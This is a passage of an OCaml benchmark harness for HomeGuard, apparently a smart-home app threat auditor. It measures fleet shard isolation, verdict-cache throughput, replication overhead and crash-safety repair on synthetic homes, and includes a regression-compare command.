  Printf.printf "fleet: %d synthetic homes over %d shards, %d config deliveries\n" n_homes
    n_shards total_configs;
  let sweep ~dead =
    let dir = fresh_dir (Printf.sprintf "fleet_d%d" dead) in
    let config =
      { Supervisor.default_config with Supervisor.shards = n_shards; fsync = false }
    in
    let sup =
      Supervisor.create ~config ~dir
        ~homes:(List.map (fun (h : Synth.home) -> h.Synth.id) synth)
        ()
    in
    for s = 0 to dead - 1 do
      ignore (Supervisor.kill sup s)
    done;
    let live id =
      match Supervisor.owner_of sup id with
      | Some s -> Supervisor.shard_state sup s = `Running
      | None -> false
    in
    let served_homes = List.length (List.filter (fun (h : Synth.home) -> live h.Synth.id) synth) in
    let served_ops = ref 0 and refused_ops = ref 0 and isolation_ok = ref true in
    let (), ms =
      time_ms (fun () ->
          List.iter
            (fun (h : Synth.home) ->
              let expect_live = live h.Synth.id in
              List.iteri
                (fun i uri ->
                  match Supervisor.deliver sup ~home:h.Synth.id ~seq:(i + 1) uri with
                  | Supervisor.Done _ ->
                    incr served_ops;
                    if not expect_live then isolation_ok := false
                  | Supervisor.Unavailable _ | Supervisor.Crashed _ ->
                    incr refused_ops;
                    if expect_live then isolation_ok := false)
                h.Synth.configs)
            synth)
    in
    Supervisor.close sup;
    let homes_per_sec = float_of_int served_homes /. Float.max 0.001 ms *. 1000.0 in
    Printf.printf
      "dead=%d: %2d/%2d homes served (%4d ops, %3d refused) in %6.1fms  %7.0f homes/s  isolation %s\n"
      dead served_homes n_homes !served_ops !refused_ops ms homes_per_sec
      (if !isolation_ok then "ok" else "VIOLATED");
    (served_homes, !served_ops, !refused_ops, !isolation_ok, homes_per_sec)
  in
  let s0, o0, r0, i0, hps0 = sweep ~dead:0 in
  let s1, o1, _, i1, hps1 = sweep ~dead:1 in
  let s2, o2, _, i2, hps2 = sweep ~dead:2 in
  Printf.printf
    "proportionality: survivors keep serving every home they own; capacity lost is the dead shards' share\n";
  let chaos = Chaos.run ~config:Chaos.smoke_config ~dir:(fresh_dir "fleet_chaos") () in
  Printf.printf
    "chaos smoke: %s — %d shards killed, %d recovered, %d ops, %d served while impaired\n"
    (if Chaos.passed chaos then "passed" else "FAILED")
    chaos.Chaos.shards_killed chaos.Chaos.shards_recovered chaos.Chaos.ops
    chaos.Chaos.served_while_impaired;
  {
    Trajectory.title = "F1";
    metrics =
      Trajectory.
        [
          metric ~direction:Info "shards" (float_of_int n_shards);
          metric ~direction:Exact "fleet_homes" (float_of_int n_homes);
          metric ~direction:Exact "served_homes_dead0" (float_of_int s0);
          metric ~direction:Exact "served_homes_dead1" (float_of_int s1);
          metric ~direction:Exact "served_homes_dead2" (float_of_int s2);
          metric ~direction:Exact "served_ops_dead0" (float_of_int o0);
          metric ~direction:Exact "served_ops_dead1" (float_of_int o1);
          metric ~direction:Exact "served_ops_dead2" (float_of_int o2);
          metric ~direction:Exact "refused_ops_dead0" (float_of_int r0);
          metric ~direction:Exact "fault_isolation_ok"
            (if i0 && i1 && i2 then 1.0 else 0.0);
          metric ~direction:Exact "chaos_invariants_ok"
            (if Chaos.passed chaos then 1.0 else 0.0);
          metric ~direction:Exact "chaos_shards_killed"
            (float_of_int chaos.Chaos.shards_killed);
          metric ~direction:Exact "chaos_shards_recovered"
            (float_of_int chaos.Chaos.shards_recovered);
          metric ~unit_:"homes/s" ~direction:Higher_better "homes_per_sec_dead0" hps0;
          metric ~unit_:"homes/s" ~direction:Higher_better "homes_per_sec_dead1" hps1;
          metric ~unit_:"homes/s" ~direction:Higher_better "homes_per_sec_dead2" hps2;
        ];
  }

(* C1: the fleet-shared verdict cache. A fixed-scale correctness pass
   first — the same synthetic fleet audited uncached, cold-cached and
   warm-cached at 1 and 2 jobs must produce byte-identical threat
   output, with deterministic hit/miss/insert counters and zero
   conflicts (the abstraction-soundness alarm). Then a scaling pass:
   homes/sec with an empty cache (cold) vs a second sweep over the same
   fleet (warm), where cross-home verdict classes are what the warm
   sweep monetizes. *)
let c1_vcache ?(smoke = false) () =
  section "C1. Fleet-shared verdict cache — cold vs warm audit throughput";
  let module Vcache = Homeguard_vcache.Vcache in
  let module Synth = Homeguard_corpus.Synth in
  let module Recorder = Homeguard_config.Recorder in
  let module Config_uri = Homeguard_config.Config_uri in
  (* the pool is small; extract each distinct app once, like a shard
     would reuse its rule files *)
  let extracted = Hashtbl.create 64 in
  let extract_pool (e : App_entry.t) =
    match Hashtbl.find_opt extracted e.App_entry.name with
    | Some a -> a
    | None ->
      let a = extract_app e in
      Hashtbl.add extracted e.App_entry.name a;
      a
  in
  (* planning facts (device matching, channel maps) are pure and
     home-invariant under offline device matching, so every home of a
     sequential sweep shares one set of tables *)
  let pcaches = Detector.create_caches () in
  let audit_home ?vc ~jobs (h : Synth.home) =
    let apps = List.map extract_pool h.Synth.apps in
    let recorder = Recorder.create () in
    List.iter
      (fun uri ->
        match Config_uri.decode uri with
        | u -> Recorder.record_uri recorder u
        | exception Config_uri.Malformed _ -> ())
      h.Synth.configs;
    let config =
      {
        Detector.offline_config with
        Detector.app_constraints = Recorder.app_constraints recorder;
      }
    in
    let config =
      match vc with None -> config | Some handle -> Vcache.configure handle config
    in
    let r = Detector.audit_all ~jobs (Detector.create ~caches:pcaches config) apps in
    List.map Threat.to_string r.Detector.threats
  in
  (* -- fixed-scale correctness pass (identical in smoke and full) -- *)
  let n_fixed = 400 in
  let fixed = Corpus.synth ~seed:13 ~n_homes:n_fixed in
  let base1 = List.map (audit_home ~jobs:1) fixed in
  let base2 = List.map (audit_home ~jobs:2) fixed in
  let st = Vcache.open_store ~fsync:false ~dir:(fresh_dir "c1_fixed") () in
  let h = Vcache.attach st ~owner:"bench" in
  let cold1 = List.map (audit_home ~vc:h ~jobs:1) fixed in
  let cold_hits = (Vcache.counters h).Vcache.hits in
  let cold_misses = (Vcache.counters h).Vcache.misses in
  let cold_pair_hits = (Vcache.counters h).Vcache.pair_hits in
  let classes = Vcache.entries st in
  let pair_classes = Vcache.pair_entries st in
  let warm1 = List.map (audit_home ~vc:h ~jobs:1) fixed in
  let warm2 = List.map (audit_home ~vc:h ~jobs:2) fixed in
  let identical =
    base1 = base2 && base1 = cold1 && base1 = warm1 && base1 = warm2
  in
  let conflicts = (Vcache.counters h).Vcache.conflicts in
  Vcache.close_store st;
  Printf.printf
    "fixed scale: %d homes — uncached/cold/warm at jobs 1,2 %s\n\
    \  %d solve classes (cold hits=%d misses=%d)  %d pair classes (cold \
     hits=%d)  conflicts=%d\n"
    n_fixed
    (if identical then "byte-identical" else "DIVERGED")
    classes cold_hits cold_misses pair_classes cold_pair_hits conflicts;
  (* -- scaling pass: uncached vs cold vs warm homes/sec ------------- *)
  let scales = if smoke then [ 1_000 ] else [ 1_000; 10_000; 100_000 ] in
  let timing =
    List.map
      (fun n ->
        let homes = Corpus.synth ~seed:17 ~n_homes:n in
        (* capacity sized to the fleet: a warm sweep only pays off if
           the fleet's pair classes actually fit (undersizing a cache
           12x is a config error, not a cache property) *)
        let st =
          Vcache.open_store ~fsync:false ~max_entries:(max 65_536 (n * 16))
            ~dir:(fresh_dir "c1_scale") ()
        in
        let h = Vcache.attach st ~owner:"bench" in
        let sweep () =
          List.iter (fun home -> ignore (audit_home ~vc:h ~jobs:1 home)) homes
        in
        let (), uncached_ms =
          time_ms (fun () ->
              List.iter (fun home -> ignore (audit_home ~jobs:1 home)) homes)
        in
        let (), cold_ms = time_ms sweep in
        let pair_hits_cold = (Vcache.counters h).Vcache.pair_hits in
        let (), warm_ms = time_ms sweep in
        Vcache.close_store st;
        let hps ms = float_of_int n /. Float.max 0.001 ms *. 1000.0 in
        let speedup = cold_ms /. Float.max 0.001 warm_ms in
        Printf.printf
          "%7d homes: uncached %8.1fms  cold %8.1fms (%8.0f homes/s, %d \
           cross-home pair hits)\n\
          \              warm %8.1fms (%8.0f homes/s)  warm/cold speedup %.1fx\n"
          n uncached_ms cold_ms (hps cold_ms) pair_hits_cold warm_ms (hps warm_ms)
          speedup;
        (n, hps uncached_ms, hps cold_ms, hps warm_ms, speedup))
      scales
  in
  {
    Trajectory.title = "C1";
    metrics =
      Trajectory.
        [
          metric ~direction:Exact "fixed_homes" (float_of_int n_fixed);
          metric ~direction:Exact "byte_identical_all_modes"
            (if identical then 1.0 else 0.0);
          metric ~direction:Exact "verdict_classes" (float_of_int classes);
          metric ~direction:Exact "pair_classes" (float_of_int pair_classes);
          metric ~direction:Exact "cold_hits" (float_of_int cold_hits);
          metric ~direction:Exact "cold_misses" (float_of_int cold_misses);
          metric ~direction:Exact "cold_pair_hits" (float_of_int cold_pair_hits);
          metric ~direction:Exact "cache_conflicts" (float_of_int conflicts);
        ]
      @ List.concat_map
          (fun (n, uncached, cold, warm, speedup) ->
            Trajectory.
              [
                metric ~unit_:"homes/s" ~direction:Info
                  (Printf.sprintf "homes_per_sec_uncached_%d" n)
                  uncached;
                metric ~unit_:"homes/s" ~direction:Higher_better
                  (Printf.sprintf "homes_per_sec_cold_%d" n)
                  cold;
                metric ~unit_:"homes/s" ~direction:Higher_better
                  (Printf.sprintf "homes_per_sec_warm_%d" n)
                  warm;
                metric ~unit_:"x" ~direction:Higher_better
                  (Printf.sprintf "warm_speedup_%d" n)
                  speedup;
              ])
          timing;
  }

(* ------------------------------------------------------------------ R1 *)

(* Replication overhead: the same synthetic workload journaled at R=1
   (primary only) and R=2 (primary + one replica directory). The
   failure-model claim is that replication buys crash-survivable
   redundancy for a bounded constant factor on the ingest path (every
   append writes each replica in order) and approximately nothing on
   the warm audit path (audits read in-memory state, not disk). Both
   runs must also converge to byte-identical durable state — the
   replica set is a transparency mechanism, not a semantic one. *)
let r1_replication ?(smoke = false) () =
  section "R1. Replication overhead — ingest and warm audit at R=1 vs R=2";
  let module Home = Homeguard_store.Home in
  let module Synth = Homeguard_corpus.Synth in
  (* fixed scale so the exact gates (home count, replica files, state
     identity, overhead bounds) match between smoke and full runs;
     smoke only trims the timed audit repetitions *)
  let n_homes = 6 in
  let audit_iters = if smoke then 2 else 5 in
  let synth = Corpus.synth ~seed:23 ~n_homes in
  let extracted = Hashtbl.create 64 in
  let extract_pool (e : App_entry.t) =
    match Hashtbl.find_opt extracted e.App_entry.name with
    | Some a -> a
    | None ->
      let a = extract_app e in
      Hashtbl.add extracted e.App_entry.name a;
      a
  in
  let run ~replicas_n =
    let root = fresh_dir (Printf.sprintf "r1_x%d" replicas_n) in
    let homes =
      List.map
        (fun (h : Synth.home) ->
          let dir = Filename.concat root ("h_" ^ h.Synth.id) in
          let replicas =
            List.init (replicas_n - 1) (fun k ->
                Filename.concat root (Printf.sprintf "r%d/h_%s" (k + 1) h.Synth.id))
          in
          fst (Home.open_ ~fsync:false ~replicas ~dir ()))
        synth
    in
    let ops = ref 0 in
    let (), ingest_ms =
      time_ms (fun () ->
          List.iter2
            (fun home (h : Synth.home) ->
              List.iter
                (fun e ->
                  ignore (Home.install_app home (extract_pool e) : Home.install_outcome);
                  incr ops)
                h.Synth.apps;
              List.iteri
                (fun i uri ->
                  ignore (Home.deliver home ~seq:(i + 1) uri : Home.delivery);
                  incr ops)
                h.Synth.configs)
            homes synth)
    in
    (* warm the audit caches once, then time steady-state re-audits *)
    let audit_texts = List.map Home.audit_text homes in
    let (), audit_ms =
      time_ms (fun () ->
          for _ = 1 to audit_iters do
            List.iter
              (fun home -> ignore (Home.audit home : Detector.audit_result))
              homes
          done)
    in
    let digests = List.map Home.state_digest homes in
    let replica_journals =
      List.fold_left
        (fun acc home ->
          acc
          + List.length
              (List.filter
                 (fun d -> Sys.file_exists (Filename.concat d "journal"))
                 (Home.replica_dirs home)))
        0 homes
    in
    List.iter Home.close homes;
    let ingest_rate = float_of_int !ops /. Float.max 0.001 ingest_ms *. 1000.0 in
    Printf.printf
      "R=%d: %4d journaled ops in %7.1fms (%7.0f ops/s)  warm audit x%d in %7.1fms  %d replica journals\n"
      replicas_n !ops ingest_ms ingest_rate audit_iters audit_ms replica_journals;
    (ingest_rate, audit_ms, digests, audit_texts, replica_journals)
  in
  let i1, a1, d1, t1, _ = run ~replicas_n:1 in
  let i2, a2, d2, t2, rj2 = run ~replicas_n:2 in
  let overhead = i1 /. Float.max 0.001 i2 in
  let audit_ratio = a2 /. Float.max 0.001 a1 in
  let identical = d1 = d2 && t1 = t2 in
  Printf.printf
    "ingest overhead %.2fx (gate <=2x %s)  warm audit ratio %.2fx  state %s\n"
    overhead
    (if overhead <= 2.0 then "ok" else "VIOLATED")
    audit_ratio
    (if identical then "byte-identical" else "DIVERGED");
  {
    Trajectory.title = "R1";
    metrics =
      Trajectory.
        [
          metric ~direction:Exact "replication_homes" (float_of_int n_homes);
          metric ~direction:Exact "state_identical_r1_r2" (if identical then 1.0 else 0.0);
          metric ~direction:Exact "replica_journals_r2" (float_of_int rj2);
          metric ~unit_:"ops/s" ~direction:Higher_better "ingest_ops_per_sec_r1" i1;
          metric ~unit_:"ops/s" ~direction:Higher_better "ingest_ops_per_sec_r2" i2;
          metric ~unit_:"x" ~direction:Info "ingest_overhead_x" overhead;
          metric ~direction:Exact "ingest_overhead_within_2x"
            (if overhead <= 2.0 then 1.0 else 0.0);
          metric ~unit_:"x" ~direction:Info "warm_audit_ratio_r2_over_r1" audit_ratio;
          metric ~direction:Exact "warm_audit_ratio_within_1_5x"
            (if audit_ratio <= 1.5 then 1.0 else 0.0);
        ];
  }

(* ------------------------------------------------------------------ S1 *)

(* S1: one crash-safety contract for every durable surface. Three
   fixed-scale gates (identical in smoke and full runs):
   1. the seeded chaos campaign, whose schedule includes verdict-cache
      replica destruction/corruption and stale-writer probe windows,
      passes every invariant with zero stale cache bytes accepted;
   2. a deliberately reintroduced fencing bug (epoch checks disabled)
      is caught by the stale-epoch invariants, ddmin-shrunk to a
      minimal fault schedule (gate: at most 3 events), and the
      minimized repro replays deterministically — violating under the
      bug, passing with the fence enforced;
   3. frame-level cache scrub: a single flipped byte in one replica of
      the cache journal is repaired by patching exactly one frame, with
      repair I/O bounded by the damage rather than the file size, and a
      second pass writes nothing. *)
let s1_crash_safety () =
  section
    "S1. Crash-safety contract — cache-fault campaign, fence-bug shrink, \
     frame-level repair";
  let module Chaos = Homeguard_fleet.Chaos in
  let module Repro = Homeguard_fleet.Repro in
  let module Vcache = Homeguard_vcache.Vcache in
  let module Scrub = Homeguard_store.Scrub in
  (* 1 — the campaign with cache fault windows *)
  let campaign =
    Chaos.run ~config:Chaos.smoke_config ~dir:(fresh_dir "s1_campaign") ()
  in
  let cache_faults =
    List.length
      (List.filter
         (fun (s : Chaos.scheduled) ->
           match s.Chaos.ev with
           | Chaos.Cache_destroy _ | Chaos.Cache_corrupt _ -> true
           | _ -> false)
         campaign.Chaos.schedule)
  in
  Printf.printf
    "campaign: %s — %d scheduled cache fault(s), %d cache probe(s) fenced, %d \
     accepted\n"
    (if Chaos.passed campaign then "passed" else "FAILED")
    cache_faults campaign.Chaos.cache_probe_fenced
    campaign.Chaos.cache_probe_accepted;
  (* 2 — reintroduce the fence bug, catch it, shrink, replay *)
  let cfg = { Chaos.smoke_config with Chaos.homes = 6; Chaos.steps = 80 } in
  let invariant = "cache-no-stale-epoch-byte" in
  let schedule = Chaos.schedule_of_config cfg in
  let (minimal, trials), shrink_ms =
    time_ms (fun () ->
        Chaos.shrink ~config:cfg ~enforce_fence:false
          ~dir:(fresh_dir "s1_shrink") ~invariant schedule)
  in
  let repro =
    { Repro.config = cfg; schedule = minimal; invariant; fence_enforced = false }
  in
  let b1 = Repro.replay repro ~dir:(fresh_dir "s1_replay1") in
  let b2 = Repro.replay repro ~dir:(fresh_dir "s1_replay2") in
  let deterministic =
    Repro.reproduces b1 repro && Repro.reproduces b2 repro
    && b1.Chaos.ops = b2.Chaos.ops
    && List.map
         (fun (i : Chaos.invariant) -> (i.Chaos.name, i.Chaos.ok))
         b1.Chaos.invariants
       = List.map
           (fun (i : Chaos.invariant) -> (i.Chaos.name, i.Chaos.ok))
           b2.Chaos.invariants
  in
  let fixed = Repro.replay ~enforce_fence:true repro ~dir:(fresh_dir "s1_fixed") in
  Printf.printf
    "fence bug: caught and shrunk %d -> %d event(s) in %d trial(s) (%.0fms); \
     replay %s, fix %s\n"
    (List.length schedule) (List.length minimal) trials shrink_ms
    (if deterministic then "deterministic" else "DIVERGED")
    (if Chaos.passed fixed then "holds" else "REGRESSED");
  (* 3 — frame-level repair on a single flipped byte *)
  let root = fresh_dir "s1_scrub" in
  let primary = Filename.concat root "vcache"
  and replica = Filename.concat root "r1/vcache" in
  let st =
    Vcache.open_store ~fsync:false ~replicas:[ replica ] ~dir:primary ()
  in
  let h = Vcache.attach st ~owner:"s1" in
  for _ = 1 to 20 do
    match Vcache.probe_write h with
    | `Accepted -> ()
    | `Fenced | `Dropped -> failwith "s1: probe append must land"
  done;
  Vcache.close_store st;
  let victim = Filename.concat replica "cache.journal" in
  let size = (Unix.stat victim).Unix.st_size in
  let fd = Unix.openfile victim [ Unix.O_RDWR ] 0o644 in
  ignore (Unix.lseek fd (size / 2) Unix.SEEK_SET);
  let byte = Bytes.create 1 in
  ignore (Unix.read fd byte 0 1);
  Bytes.set byte 0 (Char.chr (Char.code (Bytes.get byte 0) lxor 0x20));
  ignore (Unix.lseek fd (size / 2) Unix.SEEK_SET);
  ignore (Unix.write fd byte 0 1);
  Unix.close fd;
  let files = [ "cache.snapshot"; "cache.journal" ] in
  let rep = Scrub.scrub_home ~fsync:false ~files [ primary; replica ] in
  let rep2 = Scrub.scrub_home ~fsync:false ~files [ primary; replica ] in
  Printf.printf
    "frame repair: %d byte(s) flipped of %d -> patched-frames=%d \
     repair-bytes=%d (%.1f%% of file); rescrub repair-bytes=%d\n"
    1 size rep.Scrub.patched_frames rep.Scrub.repair_bytes
    (100.0 *. float_of_int rep.Scrub.repair_bytes /. float_of_int size)
    rep2.Scrub.repair_bytes;
  {
    Trajectory.title = "S1";
    metrics =
      Trajectory.
        [
          metric ~direction:Exact "campaign_ok"
            (if Chaos.passed campaign then 1.0 else 0.0);
          metric ~direction:Exact "cache_faults_scheduled"
            (float_of_int cache_faults);
          metric ~direction:Exact "cache_probes_accepted"
            (float_of_int campaign.Chaos.cache_probe_accepted);
          metric ~direction:Exact "fence_bug_caught" 1.0;
          metric ~direction:Exact "min_repro_events"
            (float_of_int (List.length minimal));
          metric ~direction:Exact "min_repro_at_most_3"
            (if List.length minimal <= 3 then 1.0 else 0.0);
          metric ~direction:Info "shrink_trials" (float_of_int trials);
          metric ~unit_:"ms" ~direction:Lower_better "shrink_ms" shrink_ms;
          metric ~direction:Exact "repro_deterministic"
            (if deterministic then 1.0 else 0.0);
          metric ~direction:Exact "fence_fix_holds"
            (if Chaos.passed fixed then 1.0 else 0.0);
          metric ~direction:Exact "scrub_converged"
            (if rep.Scrub.converged then 1.0 else 0.0);
          metric ~direction:Exact "patched_frames"
            (float_of_int rep.Scrub.patched_frames);
          metric ~unit_:"B" ~direction:Info "repair_bytes"
            (float_of_int rep.Scrub.repair_bytes);
          metric ~direction:Exact "repair_bounded_by_damage"
            (if rep.Scrub.repair_bytes > 0 && rep.Scrub.repair_bytes < size
             then 1.0
             else 0.0);
          metric ~direction:Exact "rescrub_repair_bytes"
            (float_of_int rep2.Scrub.repair_bytes);
        ];
  }

(* ---------------------------------------------------------- bechamel *)

let bechamel_suite () =
  section "Bechamel micro-benchmarks (one Test.make per table/figure)";
  let open Bechamel in
  let open Toolkit in
  let comfort_src = (Option.get (Corpus.find "ComfortTV")).App_entry.source in
  let p1, p2 = pair_of "ComfortTV" "ColdDefender" in
  let ct1, ct2 = pair_of "CatchLiveShow" "ComfortTV" in
  let ec1, ec2 = pair_of "NightCare" "BurglarFinder" in
  let situation_f = Formula.conj [ Rule.situation (snd p1); Rule.situation (snd p2) ] in
  let situation_store = Rule.store_for_rules [ p1; p2 ] in
  let demo_apps = List.map extract_app Apps_demo.all in
  let messaging = Messaging.create ~seed:9 () in
  let comfort_app = app "ComfortTV" in
  let tests =
    [
      Test.make ~name:"e6_extract_comfort_tv"
        (Staged.stage (fun () -> Extract.extract_source ~name:"ComfortTV" comfort_src));
      Test.make ~name:"e6_rule_file_json"
        (Staged.stage (fun () -> Rule_json.to_string comfort_app));
      Test.make ~name:"fig9_detect_ar"
        (Staged.stage (fun () ->
             Detector.detect_ar (Detector.create Detector.offline_config) p1 p2));
      Test.make ~name:"fig9_detect_ct_sd_lt"
        (Staged.stage (fun () ->
             Detector.detect_trigger_interference
               (Detector.create Detector.offline_config)
               ct1 ct2));
      Test.make ~name:"fig9_detect_ec_dc"
        (Staged.stage (fun () ->
             Detector.detect_condition_interference
               (Detector.create Detector.offline_config)
               ec1 ec2));
      Test.make ~name:"fig9_full_pair"
        (Staged.stage (fun () ->
             Detector.detect_pair (Detector.create Detector.offline_config) p1 p2));
      Test.make ~name:"a3_solver_dnf"
        (Staged.stage (fun () -> Solver.satisfiable situation_store situation_f));
      Test.make ~name:"a3_solver_dpll"
        (Staged.stage (fun () -> Solver.satisfiable_dpll situation_store situation_f));
      Test.make ~name:"e2_demo_detect_all"
        (Staged.stage (fun () ->
             Detector.detect_all (Detector.create Detector.offline_config) demo_apps));
      Test.make ~name:"e7_messaging_sample"
        (Staged.stage (fun () -> Messaging.send messaging Messaging.Sms "probe"));
      (let demo_threats =
         Detector.detect_all (Detector.create Detector.offline_config) demo_apps
       in
       let m = Mediator.create (Policy.create ()) demo_threats in
       (* an unmediated rule: the Allow fast path, no log growth *)
       let q =
         {
           Mediator.app = "Bystander";
           rule = "Bystander#1";
           device = "Heater";
           command = "on";
           provenance = [];
           deferrals = 0;
         }
       in
       Test.make ~name:"h1_mediator_judge" (Staged.stage (fun () -> Mediator.judge m ~at:0 q)));
    ]
  in
  let test = Test.make_grouped ~name:"homeguard" ~fmt:"%s/%s" tests in
  let ols = Analyze.ols ~bootstrap:0 ~r_square:true ~predictors:Measure.[| run |] in
  let instances = Instance.[ monotonic_clock ] in
  let cfg = Benchmark.cfg ~limit:2000 ~quota:(Time.second 0.5) ~kde:(Some 1000) () in
  let raw_results = Benchmark.all cfg instances test in
  let results = List.map (fun instance -> Analyze.all ols instance raw_results) instances in
  let results = Analyze.merge ols instances results in
  Printf.printf "%-38s %15s\n" "benchmark" "time/run";
  Hashtbl.iter
    (fun measure_label tbl ->
      if measure_label = Measure.label Instance.monotonic_clock then
        Hashtbl.fold (fun name ols acc -> (name, ols) :: acc) tbl []
        |> List.sort compare
        |> List.iter (fun (name, ols) ->
               match Analyze.OLS.estimates ols with
               | Some (est :: _) ->
                 let pretty =
                   if est > 1_000_000.0 then Printf.sprintf "%10.3f ms" (est /. 1_000_000.0)
                   else if est > 1_000.0 then Printf.sprintf "%10.3f us" (est /. 1_000.0)
                   else Printf.sprintf "%10.0f ns" est
                 in
                 Printf.printf "%-38s %15s\n" name pretty
               | _ -> Printf.printf "%-38s %15s\n" name "n/a"))
    results

(* ----------------------------------------------------------- trajectory *)

(* The bench-trajectory key (DESIGN.md §12): dataset snapshot hash,
   run config and code version. Two files with the same key should
   carry the same deterministic counters; differing keys are reported
   as drift by [bench compare] but still compared. *)

let code_version () =
  match Sys.getenv_opt "HOMEGUARD_CODE_VERSION" with
  | Some v when v <> "" -> v
  | _ -> Homeguard_core.Homeguard.version

let snapshot_hash () =
  let buf = Buffer.create 65536 in
  List.iter
    (fun (e : App_entry.t) ->
      Buffer.add_string buf e.App_entry.name;
      Buffer.add_char buf '\000';
      Buffer.add_string buf e.App_entry.source;
      Buffer.add_char buf '\000')
    Corpus.audit_apps;
  Digest.to_hex (Digest.string (Buffer.contents buf))

let trajectory_key ~smoke ~fastpath =
  let module Budget = Homeguard_solver.Budget in
  {
    Trajectory.dataset_id =
      Printf.sprintf "corpus-audit(%d apps)" (List.length Corpus.audit_apps);
    snapshot_hash = snapshot_hash ();
    config =
      Printf.sprintf "jobs=%d;budget=%s;quota=%s%s" (Schedule.default_jobs ())
        (Budget.fingerprint Homeguard_solver.Budget.default_spec)
        (if smoke then "smoke" else "full")
        fastpath;
    code_version = code_version ();
  }

let run_trajectory ~smoke ~fastpath ~tag =
  (* explicit lets: list literals evaluate right-to-left, the printed
     section order should match the file order *)
  let p1 = p1_parallel_audit () in
  let p2 = p2_budget_overhead () in
  let fig9 = e8_fig9 ~iters:(if smoke then 10 else 50) () in
  let a3 = a3_solver_ablation ~iters:(if smoke then 100 else 500) () in
  (* F1 is fixed-scale (a small fleet, sub-second) so its exact
     counters match between smoke and full runs *)
  let f1 = f1_fleet () in
  (* C1 mixes a fixed-scale correctness pass (exact counters, shared
     between smoke and full) with a scaling pass whose larger sizes
     only run in full mode — those metrics show as Missing in smoke
     compares, which never gates *)
  let c1 = c1_vcache ~smoke () in
  (* R1's exact gates (state identity, overhead bounds) are shared
     between smoke and full; only the audit repetitions shrink in smoke *)
  let r1 = r1_replication ~smoke () in
  (* S1 is fixed-scale (smoke-sized campaigns, a ddmin run and one
     frame repair) so its exact gates match between smoke and full *)
  let s1 = s1_crash_safety () in
  let sections = [ p1; p2; fig9; a3; f1; c1; r1; s1 ] in
  let t = { Trajectory.key = trajectory_key ~smoke ~fastpath; sections } in
  let file = Printf.sprintf "BENCH_%s.json" tag in
  let oc = open_out file in
  output_string oc (Trajectory.to_string t);
  close_out oc;
  Printf.printf "\nwrote %s (%d sections: %s)\n" file (List.length sections)
    (String.concat ", " (List.map (fun s -> s.Trajectory.title) sections))

let load_trajectory file =
  match In_channel.with_open_text file In_channel.input_all with
  | exception Sys_error msg -> Error msg
  | contents -> (
    match Trajectory.of_string contents with
    | Ok t -> Ok t
    | Error e -> Error (Printf.sprintf "%s: %s" file e))

let run_compare ~threshold_pct ~warn_only base_file cur_file =
  match (load_trajectory base_file, load_trajectory cur_file) with
  | Error e, _ | _, Error e ->
    prerr_endline ("bench compare: " ^ e);
    exit 2
  | Ok baseline, Ok current ->
    Printf.printf "comparing %s (baseline) vs %s (current), threshold %.0f%%\n" base_file
      cur_file threshold_pct;
    List.iter
      (fun drift -> Printf.printf "note: key drift — %s\n" drift)
      (Trajectory.key_drift ~baseline ~current);
    let deltas = Trajectory.compare ~threshold_pct ~baseline ~current in
    let fmt_v = function Some v -> Printf.sprintf "%12.3f" v | None -> "           -" in
    Printf.printf "%-8s %-28s %12s %12s %9s  %s\n" "section" "metric" "baseline" "current"
      "change" "status";
    List.iter
      (fun (d : Trajectory.delta) ->
        let status =
          match d.Trajectory.status with
          | Trajectory.Unchanged -> "ok"
          | Trajectory.Improved -> "improved"
          | Trajectory.Regressed -> "REGRESSED"
          | Trajectory.Missing -> "missing"
          | Trajectory.Added -> "added"
        in
        let change =
          match d.Trajectory.change_pct with
          | Some p -> Printf.sprintf "%+8.1f%%" p
          | None -> "        -"
        in
        Printf.printf "%-8s %-28s %12s %12s %9s  %s\n" d.Trajectory.section_title
          d.Trajectory.metric_name
          (fmt_v d.Trajectory.baseline)
          (fmt_v d.Trajectory.current)
          change status)
      deltas;
    let regressed =
      List.length (List.filter (fun d -> d.Trajectory.status = Trajectory.Regressed) deltas)
    in
    if regressed = 0 then print_endline "result: no regressions"
    else begin
      Printf.printf "result: %d metric(s) regressed beyond %.0f%%%s\n" regressed threshold_pct
        (if warn_only then " (warn-only)" else "");
      if not warn_only then exit 1
    end

(* ------------------------------------------------------------------ main *)

let run_all_sections () =
  print_endline "HomeGuard experiment harness — reproducing the paper's evaluation";
  print_endline (Corpus.stats ());
  e1_table_ii ();
  e2_exploitation ();
  e3_extraction_effectiveness ();
  e4_table_iii ();
  e5_fig8 ();
  ignore (p1_parallel_audit () : Trajectory.section);
  ignore (p2_budget_overhead () : Trajectory.section);
  e6_extraction_cost ();
  e7_messaging ();
  ignore (e8_fig9 () : Trajectory.section);
  e9_chained ();
  e10_table_v ();
  a2_ast_grep_ablation ();
  ignore (a3_solver_ablation () : Trajectory.section);
  x1_multi_platform ();
  h1_mediation ();
  j1_journal ();
  o1_overload_serving ();
  ignore (f1_fleet () : Trajectory.section);
  ignore (c1_vcache ~smoke:true () : Trajectory.section);
  ignore (r1_replication ~smoke:true () : Trajectory.section);
  ignore (s1_crash_safety () : Trajectory.section);
  bechamel_suite ();
  print_endline "\nAll experiment sections completed."

let usage () =
  print_endline "usage: bench [--json] [--tag TAG] [--smoke] [--no-bitset] [--no-memo]";
  print_endline "       bench compare BASELINE.json CURRENT.json [--threshold PCT] [--warn-only]";
  print_endline "";
  print_endline "  (no flags)    run every experiment section with human-readable output";
  print_endline "  --json        run the trajectory sections (P1, P2, FIG9, A3, F1, C1, R1)";
  print_endline "                and write";
  print_endline "                BENCH_<TAG>.json (default tag: local)";
  print_endline "  --smoke       reduced iteration quota, for CI smoke runs";
  print_endline "  --no-bitset   disable the small-domain bitset fast path";
  print_endline "  --no-memo     disable formula hash-consing and NNF/DNF memoization";
  print_endline "  compare       diff two bench files; exits 1 on a regression beyond";
  print_endline "                the threshold (default 25%), 2 on unreadable input"

let () =
  match Array.to_list Sys.argv with
  | _ :: "compare" :: rest ->
    let threshold = ref 25.0 and warn_only = ref false and files = ref [] in
    let rec parse = function
      | [] -> ()
      | "--threshold" :: v :: rest -> (
        match float_of_string_opt v with
        | Some t ->
          threshold := t;
          parse rest
        | None ->
          prerr_endline ("bench compare: bad threshold " ^ v);
          exit 2)
      | "--warn-only" :: rest ->
        warn_only := true;
        parse rest
      | f :: rest ->
        files := f :: !files;
        parse rest
    in
    parse rest;
    (match List.rev !files with
    | [ base; cur ] -> run_compare ~threshold_pct:!threshold ~warn_only:!warn_only base cur
    | _ ->
      usage ();
      exit 2)
  | _ :: args ->
    let json = ref false and smoke = ref false and tag = ref "local" in
    let fastpath = ref "" in
    let rec parse = function
      | [] -> ()
      | "--json" :: rest ->
        json := true;
        parse rest
